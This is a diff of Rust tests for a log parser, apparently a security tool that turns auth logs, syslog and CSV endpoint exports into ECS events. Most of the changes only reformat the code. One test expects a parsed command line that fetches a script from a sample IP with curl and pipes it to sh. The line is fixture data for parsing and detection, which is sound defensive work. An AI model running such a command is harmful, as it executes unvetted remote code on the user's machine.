@@ -11,7 +11,10 @@ fn run_case(name: &str, args: &[&str], files: &[&str]) -> Vec<Value> {
     let out = cmd.output().unwrap();
     assert!(out.status.success(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
     assert_matches_file(&out.stdout, &root().join(format!("testdata/parse/expected/{name}.ndjson")));
-    let lines: u64 = files.iter().map(|f| std::fs::read_to_string(root().join("testdata/parse").join(f)).unwrap().lines().count() as u64).sum();
+    let lines: u64 = files
+        .iter()
+        .map(|f| std::fs::read_to_string(root().join("testdata/parse").join(f)).unwrap().lines().count() as u64)
+        .sum();
     assert_accounted(&out.stderr, lines);
     ndjson(&out.stdout)
 }
@@ -28,13 +31,41 @@ fn auth_log_every_message_kind() {
     assert_eq!(
         actions,
         [
-            "ssh_login", "ssh_login", "ssh_login", "ssh_login", "ssh_login", "invalid_user", "invalid_user",
-            "ssh_connection_closed", "ssh_disconnected", "ssh_disconnected", "ssh_no_identification",
-            "possible_break_in_attempt", "possible_break_in_attempt", "max_auth_attempts_exceeded",
-            "authentication_failure", "authentication_failure", "session_opened", "sudo_command", "sudo_failure",
-            "sudo_not_in_sudoers", "authentication_failure", "su", "su", "session_opened", "user_created",
-            "group_created", "user_added_to_group", "user_deleted", "password_changed", "session_opened",
-            "cron_command", "session_closed", "session_started", "session_removed", "-"
+            "ssh_login",
+            "ssh_login",
+            "ssh_login",
+            "ssh_login",
+            "ssh_login",
+            "invalid_user",
+            "invalid_user",
+            "ssh_connection_closed",
+            "ssh_disconnected",
+            "ssh_disconnected",
+            "ssh_no_identification",
+            "possible_break_in_attempt",
+            "possible_break_in_attempt",
+            "max_auth_attempts_exceeded",
+            "authentication_failure",
+            "authentication_failure",
+            "session_opened",
+            "sudo_command",
+            "sudo_failure",
+            "sudo_not_in_sudoers",
+            "authentication_failure",
+            "su",
+            "su",
+            "session_opened",
+            "user_created",
+            "group_created",
+            "user_added_to_group",
+            "user_deleted",
+            "password_changed",
+            "session_opened",
+            "cron_command",
+            "session_closed",
+            "session_started",
+            "session_removed",
+            "-"
         ]
     );
     // IPv6 sources, the rollover from Dec 31 2023 into Jan 1 2024, and an invalid user.
@@ -65,8 +96,11 @@ fn syslog_5424_and_iso() {
 
 #[test]
 fn tz_applies_to_zoneless_timestamps_only() {
-    let out = logward().current_dir(root().join("testdata/parse"))
-        .args(["parse", "--year", "2023", "--tz", "Europe/Berlin", "syslog.log"]).output().unwrap();
+    let out = logward()
+        .current_dir(root().join("testdata/parse"))
+        .args(["parse", "--year", "2023", "--tz", "Europe/Berlin", "syslog.log"])
+        .output()
+        .unwrap();
     let evs: Vec<Value> = ndjson(&out.stdout);
     assert_eq!(get(&evs[2], "@timestamp"), "2023-08-14T12:30:02.203151Z"); // had +02:00
     assert_eq!(get(&evs[3], "@timestamp"), "2023-08-14T12:30:03.5Z"); // zone-less, CEST
@@ -116,7 +150,22 @@ fn csv_exports_become_ecs_events() {
         &["process_events.csv", "network_events.csv", "file_events.csv", "registry_events.csv", "logins.csv"],
     );
     let cats: Vec<&str> = evs.iter().map(|e| get(e, "event.category")[0].as_str().unwrap()).collect();
-    assert_eq!(cats, ["process", "process", "process", "process", "network", "network", "file", "file", "registry", "authentication", "authentication"]);
+    assert_eq!(
+        cats,
+        [
+            "process",
+            "process",
+            "process",
+            "process",
+            "network",
+            "network",
+            "file",
+            "file",
+            "registry",
+            "authentication",
+            "authentication"
+        ]
+    );
     assert_eq!(get(&evs[1], "process.command_line"), "/bin/bash -c \"curl -s http://198.51.100.7/a | sh\"");
     assert_eq!(get(&evs[1], "process.parent.pid"), 100);
     assert_eq!(get(&evs[3], "event.type")[0], "end");
